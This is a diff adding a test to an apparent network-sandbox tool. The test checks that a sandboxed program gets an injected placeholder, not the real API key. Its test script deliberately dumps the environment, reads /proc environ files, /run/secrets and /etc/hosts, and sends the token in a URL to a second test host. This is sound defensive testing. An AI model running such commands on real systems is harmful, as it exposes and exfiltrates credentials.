@@ -76,6 +76,36 @@ def test_an_allowed_host_and_no_other(there: Ringfence, internet: Internet) -> N
     assert gone(there.env["RINGFENCE_HOME"])
 
 
+PLACEHOLDER = (
+    "apiVersion: ringfence/v1\nkind: Policy\nmetadata: {name: tools}\n"
+    "network:\n  mode: egress\n  allow:\n"
+    "    - host: api.example.test\n"
+    '      inject: {placeholder: "{{secret:token}}", env: API_TOKEN}\n'
+    "    - {host: web.example.test, ports: [80]}\n"
+)
+
+
+def test_a_program_uses_a_key_that_it_never_has(there: Ringfence, internet: Internet, tmp_path: Path) -> None:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(PLACEHOLDER)
+    assert there("egress", "secret", "set", "token", input=b"k3y-of-mine").returncode == 0
+    mark = internet.mark()
+    script = (
+        'curl -sS --max-time 60 -H "Authorization: Bearer $API_TOKEN" https://api.example.test/v1 >/dev/null '
+        "&& env && cat /proc/self/environ /proc/1/environ /run/secrets/* /etc/hosts 2>/dev/null; "
+        'curl -sS --max-time 60 "http://web.example.test/?q=$API_TOKEN"'
+    )
+    done = there("run", "-q", "--policy", str(policy), "--", "sh", "-c", script)
+    assert done.returncode == 0, done.stderr
+    (asked,) = [each for each in internet.since(mark) if each["what"] == "request"]
+    assert dict(asked["headers"])["authorization"] == "Bearer k3y-of-mine"
+    assert b"API_TOKEN=rfsecret0" in done.stdout  # the positive control: it could be read there
+    assert b"k3y-of-mine" not in done.stdout + done.stderr
+    assert b'"code": "placeholder"' in done.stdout  # elsewhere it is refused
+    done = there("run", "--policy", str(policy), "--env", "API_TOKEN=k3y-of-mine", "--", "true")
+    assert done.returncode == 125 and b"API_TOKEN is the policy's" in done.stderr
+
+
 def test_without_a_rule_there_is_nothing(there: Ringfence, internet: Internet) -> None:
     mark = internet.mark()
     done = there("run", "--net", "egress", "-q", "--", *CURL, "https://api.example.test/")
